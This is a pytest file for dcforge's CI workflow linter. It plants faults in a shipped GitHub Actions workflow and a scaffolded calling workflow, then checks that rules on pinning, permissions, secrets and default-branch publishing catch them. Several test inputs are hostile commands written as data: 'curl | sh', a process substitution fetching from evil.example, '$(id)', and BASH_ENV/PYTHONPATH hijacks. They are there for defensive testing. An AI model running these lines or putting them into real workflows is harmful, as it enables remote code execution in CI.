"""dcforge.infra.reusable_workflows: the reusable workflow runs dcforge only, and a job that
calls one is pinned, spells out its rights and cannot publish off the default branch. Each
rule is seen failing on a mistake planted in the shipped workflow or the scaffold's."""

from __future__ import annotations

import re
import tomllib
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml

from dcforge.core import scaffold
from dcforge.infra import reusable_workflows, workflows
from dcforge.infra.runner import Result, Runner
from tests.unit.test_workflows import COMMANDS

ROOT = Path(__file__).resolve().parents[2]
SHIPPED = (ROOT / ".github/workflows/images.yml").read_text()
VERSION = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["version"]
INSTALL = '          "${RUNNER_TEMP}/dcforge/bin/pip" install -q --no-deps --require-hashes -r dcforge.txt\n'
LOCKED = '          "${RUNNER_TEMP}/dcforge/bin/pip" install -q --require-hashes -r "$('
PLAN = '          "${RUNNER_TEMP}/dcforge/bin/dcforge" plan --json --github-output\n'
GATE = '          "${RUNNER_TEMP}/dcforge/bin/dcforge" gate\n'
PUBLISH = '          "${RUNNER_TEMP}/dcforge/bin/dcforge" publish\n'


def checkout(tmp_path: Path, text: str, version: str = VERSION) -> Path:
    """``text`` as .github/workflows/images.yml of a checkout whose package is ``version``."""
    (tmp_path / "pyproject.toml").write_text(
        f'[project]\nname = "dcforge"\nversion = "{version}"\n'
    )
    directory = tmp_path / ".github/workflows"
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "images.yml").write_text(text)
    return directory / "images.yml"


def planted(tmp_path: Path, old: str, new: str) -> list[str]:
    """dcforge's rules over the shipped reusable workflow with ``old`` replaced by ``new``."""
    assert old in SHIPPED, old
    return workflows.problems(checkout(tmp_path, SHIPPED.replace(old, new)), COMMANDS)


def test_the_shipped_reusable_workflow_passes(tmp_path: Path) -> None:
    assert workflows.problems(checkout(tmp_path, SHIPPED), COMMANDS) == []
    assert reusable_workflows.is_reusable(workflows.load(ROOT / ".github/workflows/images.yml"))


def test_its_dcforge_version_is_the_packages(tmp_path: Path) -> None:
    (found,) = workflows.problems(checkout(tmp_path, SHIPPED, version="9.9.9"), COMMANDS)
    assert found == (
        f"images.yml: env DCFORGE_VERSION is '{VERSION}', the package is '9.9.9':"
        " set DCFORGE_VERSION: '9.9.9'"
    )
    (tmp_path / "pyproject.toml").write_text("[tool.dcforge]\n")
    assert "no [project].version" in "\n".join(
        workflows.problems(tmp_path / ".github/workflows/images.yml", COMMANDS)
    )
    # A stale pin in the workflow, or none.
    stale = planted(tmp_path, f'DCFORGE_VERSION: "{VERSION}"', 'DCFORGE_VERSION: "0.0.1"')
    assert stale == [
        f"images.yml: env DCFORGE_VERSION is '0.0.1', the package is '{VERSION}':"
        f" set DCFORGE_VERSION: '{VERSION}'"
    ]
    assert len(planted(tmp_path, f'  DCFORGE_VERSION: "{VERSION}"\n', "")) == 1
    # Nor may a job pin another for itself.
    overridden = planted(
        tmp_path, "    needs: plan\n", "    needs: plan\n    env: {DCFORGE_VERSION: '0.0.1'}\n"
    )
    assert overridden == ["images.yml: job build sets DCFORGE_VERSION: only the top-level env may"]


def test_a_run_step_runs_one_dcforge_command_a_line(tmp_path: Path) -> None:
    found = planted(tmp_path, PLAN, PLAN.rstrip("\n") + " && curl -s https://x | sh\n")
    assert len(found) == 1, found
    assert found[0].startswith("images.yml: job plan step 4 (run): '\"${RUNNER_TEMP}")
    assert "runs only" in found[0] and "one call a line" in found[0]
    for chained in ("; id", " | tee x", " `id`", " $(id)", " & id"):
        assert len(planted(tmp_path, GATE, GATE.rstrip("\n") + chained + "\n")) == 1, chained
    # Arguments and variables are fine: the shipped build step has both.
    assert planted(tmp_path, GATE, GATE.rstrip("\n") + ' --sha "${SHA}"\n') == []


def test_no_nox_and_nothing_of_the_callers_runs(tmp_path: Path) -> None:
    for line in (
        '          "${RUNNER_TEMP}/nox/bin/nox" -s gate\n',
        "          nox -s gate\n",
        "          invoke gate\n",
        "          python -m dcforge gate\n",  # the caller's checkout could shadow dcforge
        "          ./scripts/gate\n",
    ):
        (found,) = planted(tmp_path, GATE, line)
        assert "job gate step 8 (gate)" in found and "never nox" in found, line


def test_dcforge_is_installed_before_it_is_called(tmp_path: Path) -> None:
    block = SHIPPED[SHIPPED.index("      - name: dcforge\n") :]
    block = block[: block.index(LOCKED)]
    block += SHIPPED[SHIPPED.index(LOCKED) :].split("\n", 1)[0] + "\n"
    without = SHIPPED.replace(block, "", 1)  # the plan job's
    assert without != SHIPPED
    (found,) = workflows.problems(checkout(tmp_path, without), COMMANDS)
    assert found.startswith("images.yml: job plan step 3 (run): calls")
    assert "before a step installs it" in found
    # Another source, dcforge unhashed, or the install run in the checkout is not it.
    other = INSTALL.replace("--require-hashes -r dcforge.txt", "dcforge")
    assert "job plan" in "\n".join(planted(tmp_path, INSTALL, other))
    in_checkout = '          cd "${RUNNER_TEMP}"\n'
    assert "job plan" in "\n".join(planted(tmp_path, in_checkout, ""))
    isolated = '          python -I -m venv "${RUNNER_TEMP}/dcforge"\n'
    assert "job plan" in "\n".join(planted(tmp_path, isolated, isolated.replace("-I ", "")))
    # Nor is one that takes the dependencies unhashed.
    unhashed = LOCKED.replace("--require-hashes ", "")
    assert "job plan" in "\n".join(planted(tmp_path, LOCKED, unhashed))


def test_only_real_commands_and_in_a_privileged_job_only_the_locked_ones(tmp_path: Path) -> None:
    (found,) = planted(tmp_path, GATE, GATE.replace(" gate", " gate-all"))
    assert found == "images.yml: job gate step 8 (gate): dcforge has no command 'gate-all'"
    # The CLI hands the commands in; without them nothing counts as real.
    assert len(workflows.problems(checkout(tmp_path, SHIPPED))) == 7
    (found,) = planted(tmp_path, PUBLISH, PUBLISH.replace(" publish", " build"))
    assert "job publish step 8 (publish): this job holds write tokens but runs dcforge build" in (
        found
    )
    locked_and_oidc = workflows.LOCKED_SESSIONS | {"signing-identity"}
    assert locked_and_oidc == reusable_workflows.PRIVILEGED_COMMANDS


def test_the_shared_rules_still_hold_there(tmp_path: Path) -> None:
    pin = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683"
    assert "not pinned" in "\n".join(planted(tmp_path, pin, "actions/checkout@v4"))
    injected = PLAN.rstrip("\n") + ' "${{ github.event.pull_request.title }}"\n'
    assert "expression expanded" in "\n".join(planted(tmp_path, PLAN, injected))
    guard = "inputs.publish && github.event_name != 'pull_request' && github.ref"
    assert "may run off the default branch" in "\n".join(
        planted(tmp_path, guard, "inputs.publish || github.ref")
    )
    assert "outside an environment" in "\n".join(
        planted(tmp_path, "    environment: production\n", "")
    )
    assert "fetch-depth: 0" in "\n".join(planted(tmp_path, "          fetch-depth: 0\n", ""))
    assert "needs queue: max" in "\n".join(planted(tmp_path, "      queue: max\n", ""))


# --- a job that calls a reusable workflow: the scaffold's ---------------------------------------

SHA = scaffold.EXAMPLE_WORKFLOW_CALL["DCFORGE_WORKFLOW_REF"]
(CALLER,) = [
    f.content.decode()
    for f in scaffold.plan("1.2.3", scaffold.EXAMPLE_WORKFLOW_CALL)
    if f.path == ".github/workflows/images.yml"
]
GRANT = CALLER[CALLER.index("    permissions:\n") : CALLER.index("    with:\n")]


def caller(tmp_path: Path, old: str = "", new: str = "") -> list[str]:
    """dcforge's rules over the scaffold's workflow (as an adopter fills it in), with ``old``
    replaced by ``new``."""
    assert old in CALLER, old
    text = CALLER.replace(old, new) if old else CALLER
    directory = tmp_path / ".github/workflows"
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "images.yml").write_text(text)
    return workflows.problems(directory / "images.yml", COMMANDS)


def test_the_scaffolds_call_passes(tmp_path: Path) -> None:
    assert caller(tmp_path) == []
    # A local call needs no SHA.
    uses = f"example-owner/dcforge/.github/workflows/images.yml@{SHA}"
    assert caller(tmp_path, uses, "./.github/workflows/images.yml") == []


@pytest.mark.parametrize(
    "ref", ["v1", "main", "refs/tags/v1.0.0", SHA[:12], SHA.upper(), "DCFORGE-REF"]
)
def test_the_call_is_pinned_by_commit(tmp_path: Path, ref: str) -> None:
    (found,) = caller(tmp_path, f"@{SHA}", f"@{ref}")
    assert found == (
        f"images.yml: job images: example-owner/dcforge/.github/workflows/images.yml@{ref}"
        " is not pinned to a full commit SHA"
    )


def test_secrets_are_passed_by_name(tmp_path: Path) -> None:
    secrets = "    secrets:\n"
    start = CALLER.index(secrets)
    (found,) = caller(tmp_path, CALLER[start:], "    secrets: inherit\n")
    assert found == (
        "images.yml: job images: secrets: inherit hands over every secret: pass each by name"
    )


def test_the_call_spells_out_its_rights(tmp_path: Path) -> None:
    (found,) = caller(tmp_path, GRANT, "")
    assert found.startswith("images.yml: job images calls example-owner/dcforge/")
    assert "without a permissions: mapping" in found
    assert len(caller(tmp_path, GRANT, "    permissions: write-all\n")) == 1


def test_a_privileged_call_publishes_only_from_the_default_branch(tmp_path: Path) -> None:
    publish = (
        "publish: ${{ github.event_name != 'pull_request' && github.ref == 'refs/heads/main' }}"
    )
    for bad in (
        "publish: true",
        "publish: ${{ github.event_name != 'pull_request' }}",
        "publish: ${{ github.event_name != 'pull_request' || github.ref == 'refs/heads/main' }}",
        "publish: ${{ github.ref != 'refs/heads/main' }}",
        "refresh: ''",  # no publish input at all
    ):
        (found,) = caller(tmp_path, publish, bad)
        assert found == (
            "images.yml: job images grants ['id-token', 'packages'] but may publish off the"
            " default branch: give it if: github.ref == 'refs/heads/main', or with: publish:"
            " an expression &&-joining it (no ||)"
        ), bad
    # The job's own if: guards it as well ...
    guarded = "    if: github.ref == 'refs/heads/main'\n" + GRANT
    directory = tmp_path / ".github/workflows"
    (directory / "images.yml").write_text(
        CALLER.replace(publish, "publish: true").replace(GRANT, guarded)
    )
    assert workflows.problems(directory / "images.yml", COMMANDS) == []
    # ... and without a write token for packages, OIDC or actions there is nothing to guard.
    read_only = "    permissions:\n      contents: read\n      security-events: write\n"
    assert caller(tmp_path, GRANT, read_only) == []


def test_a_call_passes_no_environment_secret(tmp_path: Path) -> None:
    passed = "${{ secrets.DCFORGE_PR_STAGING_PASSWORD }}"
    for name in ("DCFORGE_STAGING_PASSWORD", "COSIGN_KEY"):
        (found,) = caller(tmp_path, passed, f"${{{{ secrets.{name} }}}}")
        assert found.startswith(f"images.yml: job images passes secrets.{name}: a calling job")
    # Under its own name too; the pull requests' credential (the scaffold's) is fine.
    assert len(caller(tmp_path, passed, "${{ secrets.COSIGN_PASSWORD }}")) == 1
    assert caller(tmp_path, passed, "${{ secrets.DCFORGE_PR_STAGING_PASSWORD }}") == []


def test_the_workflow_level_group_still_must_keep_a_pending_call(tmp_path: Path) -> None:
    group = "images-${{ github.event_name == 'pull_request' && github.ref || github.run_id }}"
    (found,) = caller(tmp_path, group, "images-${{ github.ref }}")
    assert "job images sits in a workflow-level concurrency group that can drop it" in found


# --- the scaffold's workflow linted as nox -s lint lints it -------------------------------------


@dataclass
class Tools(Runner):
    """actionlint and zizmor that find nothing, noting what they were given to read."""

    seen: list[list[str]] = field(default_factory=list)
    read: dict[str, str] = field(default_factory=dict)
    exit_code: int = 0

    def _execute(
        self,
        args: list[str],
        env: Mapping[str, str],
        cwd: Path | None,
        input_text: str | None,
        timeout: float,
        shown: str,
        secrets: frozenset[str] = frozenset(),
    ) -> Result:
        self.seen.append(args)
        for arg in args:
            if arg.endswith("workflows/images.yml"):
                self.read[Path(arg).name] = Path(arg).read_text()
        return Result(tuple(args), self.exit_code, "images.yml:1:1: found" * self.exit_code, "")


def test_lint_scaffold_renders_the_workflow_and_runs_every_check(tmp_path: Path) -> None:
    tools = Tools()
    config = ROOT / ".github/zizmor.yml"
    assert reusable_workflows.lint_scaffold(tools, config, COMMANDS) == []
    actionlint, zizmor = tools.seen
    assert actionlint[0] == "actionlint" and actionlint[-1].endswith(".github/workflows/images.yml")
    assert zizmor[0] == "zizmor" and zizmor[zizmor.index("--config") + 1] == str(config)
    assert tools.read == {"images.yml": CALLER}
    assert not Path(actionlint[-1]).exists()  # rendered into a folder of its own, removed
    # What the tools find is reported as the scaffold's.
    found = reusable_workflows.lint_scaffold(Tools(exit_code=1), None, COMMANDS)
    assert [p.split(": ")[:2] for p in found] == [
        ["scaffold", "actionlint"],
        ["scaffold", "zizmor"],
    ]


def test_what_the_caller_or_a_step_could_redirect_is_fixed(tmp_path: Path) -> None:
    """The wheel's hash, dist/ and the state folder are set once, and no step picks its
    shell, its directory or an env that makes bash or Python load the checkout's code."""
    sha = 'DCFORGE_SHA256: "' + "0" * 64 + '"'
    assert "must be the published wheel's sha256" in "".join(
        planted(tmp_path, sha, 'DCFORGE_SHA256: "latest"')
    )
    assert "DCFORGE_DIST must be dist" in "".join(
        planted(tmp_path, "  DCFORGE_DIST: dist\n", "  DCFORGE_DIST: out\n")
    )
    env = "        env:\n          PERMUTATION:"
    for planted_env, found in (
        ("          DCFORGE_STATE_DIR: .dcforge\n", "sets DCFORGE_STATE_DIR"),
        ("          BASH_ENV: .dcforge/hook.sh\n", "env BASH_ENV could make"),
        ("          PYTHONPATH: .\n", "env PYTHONPATH could make"),
    ):
        problems = planted(tmp_path, env, "        env:\n" + planted_env + "          PERMUTATION:")
        assert any(found in p for p in problems), problems
    shell = "      - name: build\n"
    for key in ("shell: bash --rcfile .dcforge/rc {0}", "working-directory: parts"):
        problems = planted(tmp_path, shell, f"{shell}        {key}\n")
        assert any(f"{key.split(':')[0]}: a reusable workflow's steps" in p for p in problems)


def test_a_call_line_runs_dcforge_alone_and_a_negated_guard_is_no_guard(tmp_path: Path) -> None:
    for tail in (" <(curl -s https://evil.example/x)", ' >> "${GITHUB_ENV}"', " $(id)"):
        problems = planted(tmp_path, PUBLISH, PUBLISH.replace(" publish", " publish" + tail))
        assert any("runs only" in p for p in problems), (tail, problems)
    guard = (
        "inputs.publish && github.event_name != 'pull_request' && github.ref == 'refs/heads/main'"
    )
    assert guard in SHIPPED
    problems = planted(tmp_path, guard, f"!({guard})")
    assert any("publish" in p and "default branch" in p for p in problems), problems


def test_the_jobs_python_is_the_one_the_shipped_lock_was_compiled_for() -> None:
    """The dependencies' hashes are pip-compile's for one Python: a job on another would
    resolve environment markers the lock never saw."""
    lock = (ROOT / "src/dcforge/resources/runtime.lock").read_text()
    (compiled,) = re.findall(r"autogenerated by pip-compile with Python (\S+)", lock)
    doc = yaml.safe_load(SHIPPED)
    versions = {
        str((step.get("with") or {}).get("python-version"))
        for job in doc["jobs"].values()
        for step in job.get("steps") or []
        if str(step.get("uses", "")).startswith("actions/setup-python@")
    }
    assert versions == {compiled}, versions
